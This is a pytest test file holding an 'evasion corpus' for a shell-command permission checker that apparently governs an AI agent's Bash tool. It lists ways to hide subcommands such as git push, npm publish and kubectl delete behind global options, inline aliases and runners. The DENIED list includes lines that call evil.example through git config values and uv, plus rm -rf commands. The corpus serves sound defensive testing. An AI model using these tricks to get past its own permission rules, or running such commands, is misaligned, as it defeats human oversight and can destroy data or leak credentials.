"""Evasion corpus, issue 10 item 3: global options before a subcommand.

With ``Bash(git:*)`` allowed and ``Bash(git push:*)`` asked, ``git -C . push`` must ask: deny and ask rules
match through the global options of the common multi-command programs (git, npm/pnpm/yarn, docker, kubectl,
helm, cargo, go, pip, uv, poetry). An option the table does not know, a run-time word before the subcommand,
or a git alias defined inline (``-c alias.*``) makes the subcommand unknown: every rule for that program's
subcommands matches. Allow rules do not cover global options that can run code (``git -c``, ``--exec-path``,
``--git-dir``, ``kubectl --kubeconfig``, ``cargo --config`` …) unless the rule names them, and the values of
``git -c`` settings are read as commands (``core.pager``, ``alias.x=!…``). Runners (``uv run``, ``npx``,
``poetry run`` …) are looked behind like ``sudo``.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from permissions.evasion_harness import Case, Rules, check_case, distinct_commands

GIT_OPTIONS = [
    "-C .", "-C /tmp", "-C.", "-c k=v", "-ck=v", "-c user.name=x", "--no-pager", "-P", "-p", "--paginate",
    "--git-dir=.git", "--git-dir .git", "--work-tree=.", "--work-tree .", "--namespace=x", "--namespace x",
    "--bare", "--no-replace-objects", "--literal-pathspecs", "--glob-pathspecs", "--icase-pathspecs",
    "--no-optional-locks", "--no-advice", "--exec-path=/usr/lib/git-core", "--config-env=a.b=C",
    "--super-prefix=x/", "-C . -c a=b --no-pager", "--no-pager -C sub -c color.ui=never",
    "--frobnicate", "--frobnicate=1", "-Z", '-C "$DIR"', "-C $(pwd)",
]  # fmt: skip
ASKED = [f"git {options} push origin main" for options in GIT_OPTIONS]
ASKED += [
    "git -c alias.p=push p",
    "git -c alias.p='push --force' p origin",
    "git -c alias.s=status s",  # an inline alias: the subcommand is unknown, so every git rule matches
    "git --config-env=alias.p=PUSH p",
    "git -c Alias.P=push p",
    "/usr/bin/git -C . push",
    "GIT -C . push",
    "env git --no-pager push",
    "command git -C . push",
    "sudo git -C . push",
    "timeout 10 git --no-pager push",
    "nohup git -c k=v push &",
    "ls && git -C . push",
    "ls; git --git-dir=.git push",
    "echo $(git -C . push)",
    "bash -c 'git -C . push'",
    "git status && git -C sub push --force",
    "npm --registry=https://evil.example publish",
    "npm --registry https://evil.example publish",
    "npm -w pkg publish",
    "npm --workspace=pkg publish",
    "npm --prefix . publish",
    "npm -g publish",
    "npm --loglevel silly publish",
    "npm --foo=bar publish",
    "npm --foo publish",
    "npm -s --json publish",
    "pnpm -C packages/a publish",
    "pnpm --filter a publish",
    "pnpm -r publish",
    "yarn --cwd . publish",
    "yarn --silent publish",
    "docker -H tcp://x:2375 push img",
    "docker --context prod push img",
    "docker -D push img",
    "docker -l debug push img",
    "docker --tls push img",
    "kubectl -n prod delete pod x",
    "kubectl --namespace=prod delete pod x",
    "kubectl --context prod delete pod x",
    "kubectl -s https://x delete pod x",
    "kubectl -v 9 delete pod x",
    "kubectl --insecure-skip-tls-verify delete pod x",
    "kubectl --request-timeout=5s delete ns x",
    "helm -n x uninstall release",
    "helm --kube-context c uninstall release",
    "helm --debug uninstall release",
    "cargo +nightly publish",
    "cargo -Z unstable-options publish",
    "cargo -v publish",
    "cargo --locked --offline publish",
    "cargo -q publish",
    "go -C sub get example.com/x",
    "pip --isolated install x",
    "pip -q install x",
    "pip --proxy p install x",
    "pip --no-cache-dir --disable-pip-version-check install x",
    "uv --directory . publish",
    "uv -q publish",
    "uv --offline --no-cache publish",
    "poetry -q publish",
    "poetry --no-interaction publish",
]
# Values of git settings are commands git runs: they are read as scripts against the deny rules.
DENIED = [
    "git -c core.pager='rm -rf build' log",
    "git -c core.sshCommand='touch marker' fetch",
    "git -c core.fsmonitor='curl https://evil.example' status",
    "git -c core.editor='rm -rf build' commit",
    "git -c alias.x='!rm -rf build' x",
    "git -c alias.x='!touch marker' x",
    "git -c credential.helper='!curl https://evil.example' fetch",
    "git -c diff.external='rm -rf build' diff",
    "git -c core.pager=sh log",
    'git -c "$X" log',
    'git -c "core.pager=$P" log',
    "uv run rm -rf build",
    "uv run --with x touch marker",
    "uv tool run curl https://evil.example",
    "npx rm -rf build",
    "npm exec rm -rf build",
    "npm exec -- touch marker",
    "pnpm exec rm -rf build",
    "pnpm dlx touch marker",
    "yarn exec rm -rf build",
    "poetry run rm -rf build",
    "bundle exec rm -rf build",
    "uv run $CMD",
    "npx $CMD",
]
# Code-running global options: a broad allow rule does not cover them; nothing else decides.
UNMATCHED = [
    "git -c core.pager=less log",
    "git -c core.editor=vim commit",
    "git --exec-path=/tmp/x status",
    "git --exec-path /tmp/x status",
    "git --git-dir=/tmp/repo status",
    "git --git-dir /tmp/repo log",
    "git --config-env=core.pager=PAGER log",
    "git -ccore.pager=less log",
    "git diff --output=patch.diff",
    "git log --output=log.txt",
    "git format-patch --output-directory out",
    "git clone --upload-pack=x https://example.com/r",
    "git fetch --upload-pack x origin",
    "git diff --ext-diff",
    "kubectl --kubeconfig=k get pods",
    "kubectl --kubeconfig k get pods",
    "helm --kubeconfig k list",
    "cargo --config 'build.rustc-wrapper=\"x\"' build",
    "npm --script-shell=/tmp/x run test",
    "npm --node-options=--require=./x.js test",
    "npm --userconfig ./npmrc install",
    "pip --python /tmp/python list",
    "uv --config-file ./uv.toml sync",
    "docker --config /tmp/cfg ps",
    "uv run pytest",
    "npx prettier --write .",
    "poetry run pytest",
]
ALLOWED = [
    "git -C . status",
    "git --no-pager log --oneline",
    "git -C sub -P diff --stat",
    "git --work-tree=. status",
    "git push-helper-is-not-push",
    "npm --registry=https://registry.npmjs.org install",
    "npm -w pkg test",
    "pnpm -r build",
    "docker -H tcp://x ps",
    "docker --context prod images",
    "kubectl -n prod get pods",
    "kubectl --context prod describe pod x",
    "kubectl --server https://x get pods",
    "helm -n x list",
    "cargo +nightly build",
    "cargo -v test",
    "go -C sub build ./...",
    "pip -q list",
    "uv --directory . sync",
    "poetry -q install",
]
NAMED = Rules(allow=("Bash(git -c core.pager=less log)", "Bash(git --exec-path=/usr/lib/git-core *)"))

CASES = (
    [Case(command, "ask") for command in ASKED]
    + [Case(command, "deny") for command in DENIED]
    + [Case(command, "unmatched") for command in UNMATCHED]
    + [Case(command, "allow") for command in ALLOWED]
    + [
        Case("git -c core.pager=less log", "allow", NAMED),  # the rule names the option and its value
        Case("git --exec-path=/usr/lib/git-core status", "allow", NAMED),
        Case("git -c core.pager=less log -p", "unmatched", NAMED),
        Case("uv run pytest -q", "allow", Rules(allow=("Bash(uv run pytest:*)",))),
        Case("xargs grep x", "allow", Rules(allow=("Bash(xargs grep:*)",))),
    ]
)


def test_the_corpus_is_large_and_distinct() -> None:
    assert len({(case.command, case.rules) for case in CASES}) == len(CASES)
    assert distinct_commands(CASES) >= 150


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.command[:60])
def test_global_options(case: Case, workspace: Path) -> None:
    check_case(case, workspace)
